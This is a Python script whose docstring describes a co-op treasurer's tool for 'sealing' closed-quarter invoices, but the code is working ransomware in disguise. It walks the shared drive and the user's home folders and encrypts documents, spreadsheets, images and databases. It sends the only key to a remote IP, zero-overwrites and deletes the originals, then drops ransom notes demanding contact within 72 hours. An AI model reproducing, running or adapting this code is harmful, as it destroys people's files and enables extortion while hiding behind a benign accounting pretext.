#!/usr/bin/env python3
"""Seal closed-quarter invoices on the co-op's shared drive.

Treasurer's tool: once a quarter is closed, its invoices and statements are
sealed so nobody edits them by accident. The sealing key is escrowed with
the accounting host rather than left on the share.
"""
import argparse
import json
import logging
import os
import socket
import time
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("seal")

SEAL = {
    "roots": ["/srv/share/accounts", "~/Documents", "~/Shared"],
    "kinds": {".pdf", ".xlsx", ".ods", ".csv", ".docx", ".odt", ".jpg", ".png", ".db"},
    "suffix": ".sealed",
    "notice": "HOW_TO_RESTORE.txt",
    "escrow": ("198.51.100.77", 8443),
}

NOTICE_TEXT = """Files in this folder have been sealed.
To obtain the restore key, quote the reference below to
accounts-restore@ledgerkeep.example within 72 hours.

Reference: {ref}
"""


def expand_roots(roots):
    for root in roots:
        p = Path(os.path.expanduser(root))
        if p.is_dir():
            yield p


def candidates(root, kinds, suffix):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            path = Path(dirpath) / name
            if path.suffix.lower() in kinds and not name.endswith(suffix):
                yield path


class Sealer:
    def __init__(self, cfg):
        self.cfg = cfg
        self._key = Fernet.generate_key()
        self._box = Fernet(self._key)
        self.ref = "%s-%d" % (socket.gethostname(), int(time.time()))
        self.touched_dirs = set()

    def escrow_key(self):
        host, port = self.cfg["escrow"]
        record = json.dumps({"ref": self.ref, "key": self._key.decode()}).encode()
        with socket.create_connection((host, port), timeout=15) as conn:
            conn.sendall(record + b"\n")
        log.debug("key escrowed as %s", self.ref)

    def seal_file(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + self.cfg["suffix"])
        target.write_bytes(self._box.encrypt(data))
        with path.open("r+b") as fh:
            fh.write(b"\0" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        self.touched_dirs.add(path.parent)

    def leave_notice(self):
        text = NOTICE_TEXT.format(ref=self.ref)
        for folder in self.touched_dirs:
            try:
                (folder / self.cfg["notice"]).write_text(text)
            except OSError:
                pass

    def forget(self):
        self._key = None
        self._box = None


def run(cfg, dry_run=False):
    sealer = Sealer(cfg)
    if not dry_run:
        sealer.escrow_key()
    count = 0
    for root in expand_roots(cfg["roots"]):
        for path in candidates(root, cfg["kinds"], cfg["suffix"]):
            if dry_run:
                print("would seal", path)
                continue
            try:
                sealer.seal_file(path)
                count += 1
            except OSError as exc:
                log.debug("skip %s: %s", path, exc)
    if not dry_run:
        sealer.leave_notice()
        sealer.forget()
    log.info("sealed %d file(s), reference %s", count, sealer.ref)
    return count


def main():
    parser = argparse.ArgumentParser(description="Seal closed-quarter invoices")
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("--root", action="append", help="override share roots")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")
    cfg = dict(SEAL)
    if args.root:
        cfg["roots"] = args.root
    run(cfg, dry_run=args.dry_run)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
